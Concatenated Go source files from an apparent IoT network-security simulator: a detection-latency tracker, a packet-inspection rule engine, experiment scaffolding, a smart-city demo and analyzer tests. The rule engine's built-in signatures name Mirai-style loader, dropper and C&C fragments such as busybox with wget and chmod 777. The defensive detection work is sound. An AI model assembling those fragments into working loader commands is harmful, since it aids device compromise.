// the device carries a pending injection, the latency is recorded in the
// class histogram and the injection cleared; latencies above the SLO bump
// the breach counter and fire the recorder. Reports whether an injection
// was matched. This is the hot-path half — alerts ride the Core ingest
// path — so it is one map lookup plus atomic adds, no allocation.
//
//xlf:hotpath
func (d *DetectionTracker) Observe(at time.Duration, device string) bool {
	if d == nil {
		return false
	}
	d.mu.Lock()
	p, ok := d.pending[device]
	if !ok {
		d.mu.Unlock()
		return false
	}
	delete(d.pending, device)
	lat := at - p.at
	if lat < 0 {
		lat = 0
	}
	d.detected.Inc()
	p.hist.Observe(uint64(lat))
	if lat > d.slo {
		d.breaches.Inc()
		d.rec.Trigger(at, TriggerSLOBreach)
	}
	d.mu.Unlock()
	return true
}

// Pending returns how many injections await detection. Nil-safe.
func (d *DetectionTracker) Pending() int {
	if d == nil {
		return 0
	}
	d.mu.Lock()
	defer d.mu.Unlock()
	return len(d.pending)
}

// Stats summarises every attack class's detection latency, sorted by
// class name. Quantiles carry the bucketed estimator's 2x error bound.
// Nil-safe.
func (d *DetectionTracker) Stats() []DetectionStat {
	if d == nil {
		return nil
	}
	snap := d.reg.Snapshot()
	var out []DetectionStat
	for _, h := range snap.Histograms {
		if len(h.Name) <= len(DetectionHistPrefix) ||
			h.Name[:len(DetectionHistPrefix)] != DetectionHistPrefix {
			continue
		}
		out = append(out, DetectionStat{
			Class: h.Name[len(DetectionHistPrefix):],
			Count: h.Count,
			P50:   time.Duration(QuantileBuckets(h.Buckets, 0.50)),
			P95:   time.Duration(QuantileBuckets(h.Buckets, 0.95)),
			P99:   time.Duration(QuantileBuckets(h.Buckets, 0.99)),
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Class < out[j].Class })
	return out
}
