package dpi

import (
	"errors"
	"fmt"

	"xlf/internal/obs"
)

// Severity ranks rule importance.
type Severity int

// Severities.
const (
	SevInfo Severity = iota + 1
	SevWarning
	SevCritical
)

func (s Severity) String() string {
	switch s {
	case SevInfo:
		return "info"
	case SevWarning:
		return "warning"
	case SevCritical:
		return "critical"
	default:
		return fmt.Sprintf("Severity(%d)", int(s))
	}
}

// Keyword is one pattern within a rule, optionally anchored at an offset
// ("offset information for each keyword", §IV-B2).
type Keyword struct {
	Pattern []byte
	// Offset anchors the keyword at a byte position; -1 means anywhere.
	Offset int
}

// Rule describes one attack signature: all keywords must match.
type Rule struct {
	ID       string
	Name     string
	Severity Severity
	Keywords []Keyword
}

// RuleSet is a compiled set of rules sharing one Aho-Corasick pass.
type RuleSet struct {
	rules   []Rule
	matcher *Matcher
	// patOwner[i] = (rule index, keyword index) for compiled pattern i.
	patOwner [][2]int
	tracer   *obs.Tracer
}

// SetTracer attaches an observability tracer; every rule match then emits
// a dpi-layer span timestamped by the tracer's bound simulation clock.
func (rs *RuleSet) SetTracer(t *obs.Tracer) { rs.tracer = t }

// NewRuleSet compiles rules. Rules must have at least one keyword, and
// keywords at least 4 bytes (the searchable-encryption window).
func NewRuleSet(rules []Rule) (*RuleSet, error) {
	rs := &RuleSet{rules: append([]Rule(nil), rules...)}
	var pats [][]byte
	ids := make(map[string]bool)
	for ri, r := range rs.rules {
		if r.ID == "" {
			return nil, fmt.Errorf("dpi: rule %d has empty ID", ri)
		}
		if ids[r.ID] {
			return nil, fmt.Errorf("dpi: duplicate rule ID %q", r.ID)
		}
		ids[r.ID] = true
		if len(r.Keywords) == 0 {
			return nil, fmt.Errorf("dpi: rule %q has no keywords", r.ID)
		}
		for ki, k := range r.Keywords {
			if len(k.Pattern) < TokenWindow {
				return nil, fmt.Errorf("dpi: rule %q keyword %d shorter than %d bytes", r.ID, ki, TokenWindow)
			}
			pats = append(pats, k.Pattern)
			rs.patOwner = append(rs.patOwner, [2]int{ri, ki})
		}
	}
	rs.matcher = NewMatcher(pats)
	return rs, nil
}

// Rules returns the rule list (a copy of the slice header).
func (rs *RuleSet) Rules() []Rule { return append([]Rule(nil), rs.rules...) }

// Detection is a rule that matched a payload.
type Detection struct {
	Rule Rule
	// Offsets gives, per keyword, the end offset of its first match.
	Offsets []int
}

// MatchPlain evaluates the rule set against a cleartext payload: a rule
// fires when every keyword matches (honouring anchors).
func (rs *RuleSet) MatchPlain(payload []byte) []Detection {
	found := rs.matcher.FindAll(payload)
	// First-match end offset per (rule, keyword).
	first := make(map[[2]int]int)
	for _, mt := range found {
		owner := rs.patOwner[mt.Pattern]
		klen := len(rs.rules[owner[0]].Keywords[owner[1]].Pattern)
		start := mt.End - klen
		want := rs.rules[owner[0]].Keywords[owner[1]].Offset
		if want >= 0 && start != want {
			continue
		}
		if _, ok := first[owner]; !ok {
			first[owner] = mt.End
		}
	}
	var out []Detection
	for ri, r := range rs.rules {
		offsets := make([]int, len(r.Keywords))
		all := true
		for ki := range r.Keywords {
			end, ok := first[[2]int{ri, ki}]
			if !ok {
				all = false
				break
			}
			offsets[ki] = end
		}
		if all {
			out = append(out, Detection{Rule: r, Offsets: offsets})
			if rs.tracer != nil {
				rs.tracer.Emit(obs.LayerDPI, "match", "", r.ID)
			}
		}
	}
	return out
}

// ErrNoRules is returned when building detectors from an empty set.
var ErrNoRules = errors.New("dpi: empty rule set")

// IoTMalwareRules returns the built-in corpus modeled on Alhanahnah et
// al.: shell command sequences and C&C address strings observed in
// cross-architecture IoT malware, plus OTA tamper markers.
func IoTMalwareRules() []Rule {
	kw := func(s string) Keyword { return Keyword{Pattern: []byte(s), Offset: -1} }
	return []Rule{
		{
			ID: "mirai-loader", Name: "Mirai-style loader shell sequence", Severity: SevCritical,
			Keywords: []Keyword{kw("/bin/busybox"), kw("wget http://")},
		},
		{
			ID: "mirai-killer", Name: "competitor-killing shell commands", Severity: SevWarning,
			Keywords: []Keyword{kw("killall -9")},
		},
		{
			ID: "cc-beacon", Name: "hard-coded C&C address string", Severity: SevCritical,
			Keywords: []Keyword{kw("cnc.botnet.example")},
		},
		{
			ID: "telnet-bruteforce", Name: "telnet credential stuffing", Severity: SevWarning,
			Keywords: []Keyword{kw("enable\nsystem\nshell")},
		},
		{
			ID: "chmod-dropper", Name: "dropper chmod+exec sequence", Severity: SevCritical,
			Keywords: []Keyword{kw("chmod 777"), kw("./dvrHelper")},
		},
		{
			ID: "ota-unsigned", Name: "unsigned firmware image marker", Severity: SevCritical,
			Keywords: []Keyword{Keyword{Pattern: []byte("FWIMG-UNSIGNED"), Offset: 0}},
		},
		{
			ID: "exfil-pii", Name: "bulk PII exfiltration marker", Severity: SevWarning,
			Keywords: []Keyword{kw("ssn="), kw("dob=")},
		},
		{
			ID: "cleartext-creds", Name: "credentials over a cleartext channel", Severity: SevWarning,
			Keywords: []Keyword{kw("pass=")},
		},
		{
			ID: "psk-leak", Name: "WiFi PSK in unprotected provisioning", Severity: SevCritical,
			Keywords: []Keyword{kw("PSK=")},
		},
		{
			ID: "wifi-deauth", Name: "802.11 deauthentication burst", Severity: SevWarning,
			Keywords: []Keyword{kw("DEAUTH")},
		},
		{
			ID: "nop-sled", Name: "overflow filler / NOP-sled pattern", Severity: SevCritical,
			Keywords: []Keyword{kw("AAAAAAAAAAAAAAAA")},
		},
	}
}
