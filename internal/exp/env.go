package exp

import (
	"math/rand"
	"sync"
	"time"

	"xlf/internal/obs"
)

// Clock supplies monotonic elapsed-time readings for the few experiment
// sections that measure real execution speed (the Table III throughput
// column and the E4 DPI matching paths). Experiments never read the wall
// clock directly: timing flows through the Env, so tests can substitute a
// deterministic clock and replay an entire report byte-identically.
type Clock func() time.Duration

// WallClock returns a Clock backed by the process monotonic clock. This is
// the one sanctioned wall-clock read in the experiment suite; xlf-vet's
// determinism rule bans any other (see //xlf:allow-wallclock).
func WallClock() Clock {
	start := time.Now() //xlf:allow-wallclock benchmark timing source
	return func() time.Duration {
		return time.Since(start) //xlf:allow-wallclock benchmark timing source
	}
}

// StepClock returns a fake Clock that advances by step on every reading,
// so each timed section reports the same fixed elapsed time. The
// determinism regression tests use it to assert that two runs of the same
// experiment render identical tables.
func StepClock(step time.Duration) Clock {
	var now time.Duration
	return func() time.Duration {
		now += step
		return now
	}
}

// Env carries everything an experiment depends on besides its inputs: the
// seed for its random streams, the clock for throughput timing, and the
// worker budget for inner parameter sweeps. Every experiment is a pure
// function of its Env.
type Env struct {
	Seed  int64
	Clock Clock

	// ClockFactory, when set, supplies an independent Clock for every
	// Fork. Clocks are stateful closures, so concurrent experiments must
	// not share one: the scheduler forks the root Env per experiment (and
	// Sweep per sweep point) and relies on this factory for isolation.
	// When nil, Fork reuses Clock and only sequential execution is safe.
	ClockFactory func() Clock

	// Workers bounds the fan-out of inner parameter sweeps (see Sweep).
	// Zero or one means sequential.
	Workers int

	// trace, when non-nil, is this env's node in the trace tree: each env
	// records into its own obs.Tracer, and forks hang child nodes off the
	// parent in fork order. Because the scheduler and Sweep fork
	// sequentially in dispatch order, the tree shape — and therefore the
	// TraceSpans concatenation — is identical at any parallelism.
	trace *traceNode

	// telemetry, when non-nil, is this env's node in the telemetry tree:
	// experiments attach their rollups and flight recorders here, and
	// TelemetryWindows concatenates the subtree depth-first in fork
	// order — the same determinism template as the trace tree.
	telemetry *telemetryNode
}

// telemetrySink is one attached (rollup, recorder) pair with its source
// label, in attach order.
type telemetrySink struct {
	label  string
	rollup *obs.Rollup
	rec    *obs.FlightRecorder
}

// telemetryNode is one env's telemetry sinks plus its forked children,
// in fork order.
type telemetryNode struct {
	mu       sync.Mutex
	interval time.Duration
	sinks    []telemetrySink
	children []*telemetryNode
}

// fork creates a child node. Safe for concurrent use; deterministic child
// order requires forking from a single goroutine (the scheduler and Sweep
// dispatch loops do).
func (n *telemetryNode) fork() *telemetryNode {
	child := &telemetryNode{interval: n.interval}
	n.mu.Lock()
	n.children = append(n.children, child)
	n.mu.Unlock()
	return child
}

// attach registers one experiment run's telemetry under its source label.
func (n *telemetryNode) attach(label string, rollup *obs.Rollup, rec *obs.FlightRecorder) {
	n.mu.Lock()
	n.sinks = append(n.sinks, telemetrySink{label: label, rollup: rollup, rec: rec})
	n.mu.Unlock()
}

// collect appends this node's windows and dumps (stamped with their
// source labels) and then its children's, depth-first.
func (n *telemetryNode) collect(windows []obs.WindowRecord, dumps []obs.Dump) ([]obs.WindowRecord, []obs.Dump) {
	n.mu.Lock()
	sinks := append([]telemetrySink(nil), n.sinks...)
	children := append([]*telemetryNode(nil), n.children...)
	n.mu.Unlock()
	for _, s := range sinks {
		for _, w := range s.rollup.Windows() {
			w.Src = s.label
			windows = append(windows, w)
		}
		for _, d := range s.rec.Dumps() {
			d.Src = s.label
			dumps = append(dumps, d)
		}
	}
	for _, c := range children {
		windows, dumps = c.collect(windows, dumps)
	}
	return windows, dumps
}

// evicted sums rollup-ring evictions over the subtree.
func (n *telemetryNode) evicted() uint64 {
	n.mu.Lock()
	sinks := append([]telemetrySink(nil), n.sinks...)
	children := append([]*telemetryNode(nil), n.children...)
	n.mu.Unlock()
	var total uint64
	for _, s := range sinks {
		total += s.rollup.Evicted()
	}
	for _, c := range children {
		total += c.evicted()
	}
	return total
}

// traceNode is one env's tracer plus its forked children, in fork order.
type traceNode struct {
	mu       sync.Mutex
	capacity int
	tracer   *obs.Tracer
	children []*traceNode
}

// fork creates a child node with its own tracer. Safe for concurrent use,
// but callers that need a deterministic child order must fork from a
// single goroutine (the scheduler's dispatch loop does).
func (n *traceNode) fork() *traceNode {
	child := &traceNode{capacity: n.capacity, tracer: obs.NewTracer(n.capacity, nil)}
	n.mu.Lock()
	n.children = append(n.children, child)
	n.mu.Unlock()
	return child
}

// collect appends this node's spans and then its children's, depth-first.
func (n *traceNode) collect(spans []obs.Span) []obs.Span {
	spans = append(spans, n.tracer.Spans()...)
	n.mu.Lock()
	children := append([]*traceNode(nil), n.children...)
	n.mu.Unlock()
	for _, c := range children {
		spans = c.collect(spans)
	}
	return spans
}

// evicted sums ring-buffer evictions over the subtree.
func (n *traceNode) evicted() uint64 {
	total := n.tracer.Evicted()
	n.mu.Lock()
	children := append([]*traceNode(nil), n.children...)
	n.mu.Unlock()
	for _, c := range children {
		total += c.evicted()
	}
	return total
}

// EnableTracing attaches a trace tree to the env: this env and every env
// forked from it record spans into per-fork ring buffers of the given
// capacity (obs.DefaultCapacity when capacity <= 0). Call before Fork.
func (e *Env) EnableTracing(capacity int) {
	if capacity <= 0 {
		capacity = obs.DefaultCapacity
	}
	e.trace = &traceNode{capacity: capacity, tracer: obs.NewTracer(capacity, nil)}
}

// Tracer returns this env's span recorder, or nil when tracing is off —
// callers pass it straight into xlf.Options.Tracer either way.
func (e *Env) Tracer() *obs.Tracer {
	if e.trace == nil {
		return nil
	}
	return e.trace.tracer
}

// TraceSpans returns every span recorded in this env's subtree: the env's
// own spans first, then each forked child's, depth-first in fork order.
// With a step clock the result is byte-stable across runs and -parallel
// levels once obs.WriteTrace renumbers the sequence numbers.
func (e *Env) TraceSpans() []obs.Span {
	if e.trace == nil {
		return nil
	}
	return e.trace.collect(nil)
}

// TraceEvicted reports how many spans the subtree's ring buffers
// displaced; nonzero means TraceSpans is incomplete.
func (e *Env) TraceEvicted() uint64 {
	if e.trace == nil {
		return 0
	}
	return e.trace.evicted()
}

// EnableTelemetry attaches a telemetry tree to the env: experiments in
// this env and every env forked from it build per-run rollups at the
// given sim-time interval (1s when interval <= 0) and register them via
// AttachTelemetry. Call before Fork.
func (e *Env) EnableTelemetry(interval time.Duration) {
	if interval <= 0 {
		interval = time.Second
	}
	e.telemetry = &telemetryNode{interval: interval}
}

// RollupInterval returns the telemetry window length, or 0 when
// telemetry is off — experiments use it as the enablement check.
func (e *Env) RollupInterval() time.Duration {
	if e.telemetry == nil {
		return 0
	}
	return e.telemetry.interval
}

// AttachTelemetry registers one run's rollup and flight recorder under a
// source label (e.g. "E10/1000"). The label is stamped into each
// collected window and dump, so one telemetry file can carry several
// runs. No-op when telemetry is off.
func (e *Env) AttachTelemetry(label string, rollup *obs.Rollup, rec *obs.FlightRecorder) {
	if e.telemetry == nil {
		return
	}
	e.telemetry.attach(label, rollup, rec)
}

// TelemetryWindows returns every rollup window and flight-recorder dump
// in this env's subtree, depth-first in fork/attach order with source
// labels stamped. Deterministic across -parallel levels for the same
// reason TraceSpans is: the tree shape follows the sequential dispatch
// order, not goroutine timing.
func (e *Env) TelemetryWindows() ([]obs.WindowRecord, []obs.Dump) {
	if e.telemetry == nil {
		return nil, nil
	}
	return e.telemetry.collect(nil, nil)
}

// TelemetryEvicted reports how many rollup windows the subtree's rings
// displaced; nonzero means TelemetryWindows is incomplete.
func (e *Env) TelemetryEvicted() uint64 {
	if e.telemetry == nil {
		return 0
	}
	return e.telemetry.evicted()
}

// NewEnv returns the standard environment: seeded randomness and
// wall-clock throughput timing. Envs (and the Fork tree grown from
// them) are per-experiment state owned by the exp domain
// (DESIGN.md §14).
//
//xlf:owned(exp)
func NewEnv(seed int64) *Env {
	return &Env{Seed: seed, Clock: WallClock(), ClockFactory: WallClock}
}

// NewStepEnv returns a fully deterministic environment: seeded randomness
// and a fixed fake clock, so every timed section reports the same elapsed
// time and the rendered report is byte-identical across runs and across
// -parallel levels. cmd/xlf-bench's -clock step mode and the determinism
// tests use it.
//
//xlf:owned(exp)
func NewStepEnv(seed int64) *Env {
	factory := func() Clock { return StepClock(time.Millisecond) }
	return &Env{Seed: seed, Clock: factory(), ClockFactory: factory}
}

// Fork returns an independent child environment: same seed and worker
// budget, with a fresh clock from ClockFactory when one is present. The
// scheduler forks once per experiment and Sweep once per sweep point, so
// no two goroutines ever share a clock closure.
//
//xlf:owned(exp)
func (e *Env) Fork() *Env {
	out := &Env{Seed: e.Seed, Clock: e.Clock, ClockFactory: e.ClockFactory, Workers: e.Workers}
	if e.ClockFactory != nil {
		out.Clock = e.ClockFactory()
	}
	if e.trace != nil {
		out.trace = e.trace.fork()
	}
	if e.telemetry != nil {
		out.telemetry = e.telemetry.fork()
	}
	return out
}

// Rand returns a fresh deterministic generator for the experiment's seed.
// Each call restarts the stream, so experiments cannot leak RNG state into
// one another and single-experiment runs match full-suite runs.
func (e *Env) Rand() *rand.Rand { return rand.New(rand.NewSource(e.Seed)) }

// timeSection runs f and returns its elapsed duration on the env clock.
func (e *Env) timeSection(f func()) time.Duration {
	t0 := e.Clock()
	f()
	return e.Clock() - t0
}
