// Smartcity: the million-device kernel demonstration — one simulation
// kernel, one network, a full smart-city sensor fleet reporting into
// district sinks. This is the scale contract behind the timer-wheel
// scheduler and the pooled event slab: a steady state of two pooled
// events per sensor per period with no per-report allocation.
//
// The defaults run 1,000,000 devices for 60 simulated seconds. Use the
// flags to rescale:
//
//	go run ./examples/smartcity -devices 1000000 -horizon 60s
//
// With -telemetry the run enables the sim-clock rollup pipeline and the
// default attack timeline (a district flood and a slow exfiltration),
// prints per-window throughput and per-class detection latency, and
// writes the xlf-metrics/v1 artifact for `xlf-trace metrics`:
//
//	go run ./examples/smartcity -devices 100000 -telemetry metrics.jsonl
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"xlf/internal/obs"
	"xlf/internal/testbed"
)

func main() {
	devices := flag.Int("devices", 1_000_000, "sensor count")
	districts := flag.Int("districts", 0, "sink count (0 = scenario default)")
	period := flag.Duration("period", 10*time.Second, "per-sensor report period")
	horizon := flag.Duration("horizon", 60*time.Second, "simulated run time")
	seed := flag.Int64("seed", 1, "deterministic seed")
	telemetry := flag.String("telemetry", "", "file to write the xlf-metrics/v1 rollup artifact into (enables the attack timeline)")
	rollupIv := flag.Duration("rollup-interval", time.Second, "sim-time rollup window length (with -telemetry)")
	flag.Parse()

	cfg := testbed.CityConfig{
		Seed:        *seed,
		Devices:     *devices,
		Districts:   *districts,
		ReportEvery: *period,
		Horizon:     *horizon,
	}
	if *telemetry != "" {
		cfg.RollupInterval = *rollupIv
		cfg.Attacks = testbed.DefaultCityAttacks()
	}

	start := time.Now()
	city, err := testbed.NewCity(cfg)
	if err != nil {
		log.Fatal(err)
	}
	built := time.Since(start)

	st, err := city.Run()
	if err != nil {
		log.Fatal(err)
	}
	wall := time.Since(start)

	fmt.Println(st)
	fmt.Printf("wall clock: %s build, %s total (%.0f kernel events/sec)\n",
		built.Round(time.Millisecond), wall.Round(time.Millisecond),
		float64(st.Events)/wall.Seconds())

	tel := city.Telemetry()
	if tel == nil {
		return
	}
	reportTelemetry(tel)
	if err := writeTelemetry(*telemetry, tel, *seed); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("telemetry: wrote %s (render with: xlf-trace metrics %s)\n", *telemetry, *telemetry)
}

// reportTelemetry prints the windowed throughput envelope and the
// detection-latency outcome of the attack timeline.
func reportTelemetry(tel *testbed.CityTelemetry) {
	var minRate, maxRate float64
	windows := tel.Rollup.Windows()
	for i, w := range windows {
		for _, c := range w.Counters {
			if c.Name != "city.delivered" {
				continue
			}
			if i == 0 || c.PerSec < minRate {
				minRate = c.PerSec
			}
			if c.PerSec > maxRate {
				maxRate = c.PerSec
			}
		}
	}
	fmt.Printf("telemetry: %d windows of %s; delivered %.0f..%.0f events/sec per window\n",
		len(windows), tel.Rollup.Interval(), minRate, maxRate)

	for _, s := range tel.Detections.Stats() {
		fmt.Printf("telemetry: %-6s detection latency p50=%s p99=%s (%d detected)\n",
			s.Class, s.P50, s.P99, s.Count)
	}
	if pending := tel.Detections.Pending(); pending > 0 {
		fmt.Printf("telemetry: WARNING %d injected attacks were never detected\n", pending)
	}
	breaches := tel.Registry.Counter(obs.DetectSLOBreach).Value()
	fmt.Printf("telemetry: %d SLO breaches (objective %s), %d flight-recorder dumps\n",
		breaches, tel.Detections.SLO(), len(tel.Recorder.Dumps()))
}

// writeTelemetry serializes the run's windows and dumps as xlf-metrics/v1.
func writeTelemetry(path string, tel *testbed.CityTelemetry, seed int64) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	meta := obs.MetricsMeta{
		Seed:     seed,
		Clock:    "step",
		Source:   "examples/smartcity",
		Interval: tel.Rollup.Interval(),
		Evicted:  tel.Rollup.Evicted(),
	}
	if werr := obs.WriteMetrics(f, meta, tel.Rollup.Windows(), tel.Recorder.Dumps()); werr != nil {
		f.Close()
		return werr
	}
	return f.Close()
}
