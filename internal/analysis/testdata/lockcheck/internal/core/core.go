// Package core is a lockcheck fixture: structs holding sync locks
// (directly or through nesting) must move by pointer.
package core

import "sync"

// Guarded holds a mutex directly.
type Guarded struct {
	mu sync.Mutex
	n  int
}

// Embedded embeds one.
type Embedded struct {
	sync.RWMutex
	n int
}

// Nested holds a lock-holder by value, which transitively makes it one.
type Nested struct {
	g Guarded
}

// Clean holds no lock and may be copied freely.
type Clean struct{ n int }

func (g Guarded) badReceiver() int { return g.n } // want "\[lockcheck\] method badReceiver has a value receiver of struct Guarded"

func (g *Guarded) goodReceiver() int { return g.n }

func (n Nested) badNestedReceiver() {} // want "\[lockcheck\] method badNestedReceiver has a value receiver of struct Nested"

func (c Clean) fineReceiver() int { return c.n }

func badParam(g Guarded) {} // want "\[lockcheck\] parameter of badParam copies struct Guarded"

func badMutexParam(mu sync.Mutex) { mu.Lock() } // want "\[lockcheck\] parameter of badMutexParam copies sync lock"

func badResult() Embedded { return Embedded{} } // want "\[lockcheck\] result of badResult copies struct Embedded"

func goodParam(g *Guarded) {}

func goodResult() *Guarded { return &Guarded{} }

func fineParam(c Clean) {}

var _ = []any{
	(Guarded).badReceiver, (*Guarded).goodReceiver, (Nested).badNestedReceiver,
	(Clean).fineReceiver, badParam, badMutexParam, badResult, goodParam,
	goodResult, fineParam,
}
