package analysis

import (
	"go/ast"
	"go/types"
	"strings"
)

// AllowWallclockMarker is the escape-hatch annotation for genuine
// benchmark timing inside deterministic packages.
const AllowWallclockMarker = "xlf:allow-wallclock"

// Determinism enforces the simulator's reproduction contract: inside
// simulation/experiment packages, nothing may read the wall clock
// (time.Now, time.Since) or draw from the global math/rand generator —
// randomness must come from an injected seeded *rand.Rand and timing from
// an injected clock, so that the same seed replays bit-identically.
// Constructors (rand.New, rand.NewSource, rand.NewZipf) are exempt: they
// are how seeded generators are built. A //xlf:allow-wallclock comment on
// (or directly above) the offending line, or in the enclosing function's
// doc comment, waives the rule for sanctioned measurement code.
//
// Test files are exempt: tests may time themselves freely.
type Determinism struct {
	// Packages lists the import paths (exact, or "prefix/..." patterns)
	// the contract applies to.
	Packages []string

	// graph supplies go/types object identity so aliased imports
	// (import t "time"; t.Now()) resolve and locals shadowing an import
	// name stay quiet. Without it the rule falls back to selector text.
	graph    *CallGraph
	prepared bool
}

// NewDeterminism builds the analyzer for the given package set on a
// shared call graph (nil builds a private one).
func NewDeterminism(packages []string, g *CallGraph) *Determinism {
	if g == nil {
		g = NewCallGraph()
	}
	return &Determinism{Packages: packages, graph: g}
}

// Prepare implements ModuleAnalyzer: the shared type-check resolves
// import aliases by object identity.
func (d *Determinism) Prepare(pkgs []*Package) {
	if d.prepared {
		return
	}
	d.prepared = true
	d.graph.Build(pkgs)
}

// Name implements Analyzer.
func (d *Determinism) Name() string { return "determinism" }

// Doc implements Documented.
func (d *Determinism) Doc() string {
	return "simulator packages must stay deterministic: no wall clock, global rand, or map-order iteration"
}

// applies reports whether the contract covers importPath.
func (d *Determinism) applies(importPath string) bool {
	for _, p := range d.Packages {
		if prefix, ok := strings.CutSuffix(p, "/..."); ok {
			if importPath == prefix || strings.HasPrefix(importPath, prefix+"/") {
				return true
			}
		} else if importPath == p {
			return true
		}
	}
	return false
}

// randConstructors build seeded generators and are therefore allowed.
var randConstructors = map[string]bool{
	"New":        true,
	"NewSource":  true,
	"NewZipf":    true,
	"NewPCG":     true, // math/rand/v2
	"NewChaCha8": true,
}

// Check implements Analyzer.
func (d *Determinism) Check(pkg *Package) []Finding {
	if !d.prepared {
		d.Prepare([]*Package{pkg})
	}
	if !d.applies(pkg.ImportPath) {
		return nil
	}
	pt := d.graph.oracle.typesOf(pkg)
	var out []Finding
	for _, f := range pkg.Files {
		if f.Test {
			continue
		}
		timeName, hasTime := importName(f.AST, "time")
		randName, hasRand := importName(f.AST, "math/rand")
		randV2Name, hasRandV2 := importName(f.AST, "math/rand/v2")
		if !hasTime && !hasRand && !hasRandV2 {
			continue
		}
		allowed := allowedLines(pkg.Fset, f.AST, AllowWallclockMarker)
		ast.Inspect(f.AST, func(n ast.Node) bool {
			call, ok := n.(*ast.CallExpr)
			if !ok {
				return true
			}
			sel, ok := call.Fun.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			recv, ok := sel.X.(*ast.Ident)
			if !ok {
				return true
			}
			line := pkg.Fset.Position(call.Pos()).Line
			if allowed[line] {
				return true
			}
			// Resolve the qualifier by object identity when the oracle
			// knows it: any alias of "time" counts, and a local variable
			// that happens to be named like the import does not. The
			// selector-text fallback covers oracle-less loads.
			path, resolved := "", false
			if pt != nil {
				switch obj := pt.info.Uses[recv].(type) {
				case *types.PkgName:
					path, resolved = obj.Imported().Path(), true
				case nil:
					// No entry: fall back to selector text below.
				default:
					return true // a local shadowing the import name
				}
			}
			if !resolved {
				switch {
				case hasTime && recv.Name == timeName:
					path = "time"
				case hasRand && recv.Name == randName:
					path = "math/rand"
				case hasRandV2 && recv.Name == randV2Name:
					path = "math/rand/v2"
				default:
					return true
				}
			}
			switch {
			case path == "time" && (sel.Sel.Name == "Now" || sel.Sel.Name == "Since"):
				out = append(out, pkg.finding(d.Name(), call.Pos(),
					"wall-clock read time.%s in deterministic package %s; inject a clock (or annotate //%s)",
					sel.Sel.Name, pkg.ImportPath, AllowWallclockMarker))
			case (path == "math/rand" || path == "math/rand/v2") && !randConstructors[sel.Sel.Name]:
				out = append(out, pkg.finding(d.Name(), call.Pos(),
					"global math/rand.%s in deterministic package %s; draw from an injected seeded *rand.Rand",
					sel.Sel.Name, pkg.ImportPath))
			}
			return true
		})
	}
	return out
}

var _ ModuleAnalyzer = (*Determinism)(nil)
