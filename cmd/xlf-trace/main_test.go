package main

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"xlf/internal/obs"
)

// writeFixture writes a small three-layer trace and returns its path.
func writeFixture(t *testing.T) string {
	t.Helper()
	spans := []obs.Span{
		{Time: 1 * time.Second, Layer: obs.LayerDevice, Op: "keepalive", Device: "cam-1", Cause: "sealed"},
		{Time: 2 * time.Second, Dur: 3 * time.Millisecond, Layer: obs.LayerNetsim, Op: "deliver", Device: "cam-1"},
		{Time: 2 * time.Second, Dur: 5 * time.Millisecond, Layer: obs.LayerNetsim, Op: "deliver", Device: "bulb-1"},
		{Time: 3 * time.Second, Layer: obs.LayerCore, Op: "alert", Device: "cam-1", Cause: "critical"},
	}
	var buf bytes.Buffer
	meta := obs.TraceMeta{Seed: 7, Clock: "step", Source: "fixture"}
	if err := obs.WriteTrace(&buf, meta, spans); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "trace.jsonl")
	if err := os.WriteFile(path, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunRendersTimelineAndRollups(t *testing.T) {
	path := writeFixture(t)
	var out bytes.Buffer
	if got := run([]string{path}, &out); got != 0 {
		t.Fatalf("run = %d, want 0", got)
	}
	text := out.String()
	for _, want := range []string{
		"trace xlf-trace/v1", "seed=7", "clock=step", "source=fixture", "spans=4",
		"core", "device", "netsim", // timeline rows
		"keepalive", "deliver", "alert", // rollup ops
		"4ms", "5ms", // avg and max deliver latency
	} {
		if !strings.Contains(text, want) {
			t.Errorf("output missing %q:\n%s", want, text)
		}
	}
}

func TestRunDeviceAndLayerFilters(t *testing.T) {
	path := writeFixture(t)
	var out bytes.Buffer
	if got := run([]string{"-device", "bulb-1", path}, &out); got != 0 {
		t.Fatalf("run = %d, want 0", got)
	}
	if text := out.String(); !strings.Contains(text, "(selected 1)") || strings.Contains(text, "keepalive") {
		t.Errorf("-device filter leaked foreign spans:\n%s", text)
	}
	out.Reset()
	if got := run([]string{"-layer", "netsim", path}, &out); got != 0 {
		t.Fatalf("run = %d, want 0", got)
	}
	if text := out.String(); !strings.Contains(text, "(selected 2)") || strings.Contains(text, "alert") {
		t.Errorf("-layer filter leaked foreign spans:\n%s", text)
	}
	out.Reset()
	if got := run([]string{"-device", "no-such", path}, &out); got != 0 {
		t.Fatalf("run with empty selection = %d, want 0", got)
	}
	if !strings.Contains(out.String(), "no spans") {
		t.Errorf("empty selection should say so:\n%s", out.String())
	}
}

func TestRunDeterministicOutput(t *testing.T) {
	path := writeFixture(t)
	var a, b bytes.Buffer
	if run([]string{path}, &a) != 0 || run([]string{path}, &b) != 0 {
		t.Fatal("run failed")
	}
	if a.String() != b.String() {
		t.Error("two renders of the same trace differ")
	}
}

func TestRunErrors(t *testing.T) {
	path := writeFixture(t)
	bad := filepath.Join(t.TempDir(), "bad.jsonl")
	if err := os.WriteFile(bad, []byte(`{"schema":"xlf-trace/v9","clock":"step","spans":0}`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		args []string
		want int
	}{
		{[]string{}, 2},                        // no file
		{[]string{path, path}, 2},              // two files
		{[]string{"-width", "3", path}, 2},     // width too small
		{[]string{"-bogus", path}, 2},          // parse error
		{[]string{"/does/not/exist.jsonl"}, 1}, // unreadable
		{[]string{bad}, 1},                     // wrong schema version
	}
	for _, tc := range cases {
		var out bytes.Buffer
		if got := run(tc.args, &out); got != tc.want {
			t.Errorf("run(%v) = %d, want %d", tc.args, got, tc.want)
		}
	}
}

func TestRunEvictionWarning(t *testing.T) {
	var buf bytes.Buffer
	meta := obs.TraceMeta{Seed: 1, Clock: "step", Evicted: 9}
	spans := []obs.Span{{Time: time.Second, Layer: obs.LayerSim, Op: "event"}}
	if err := obs.WriteTrace(&buf, meta, spans); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "evicted.jsonl")
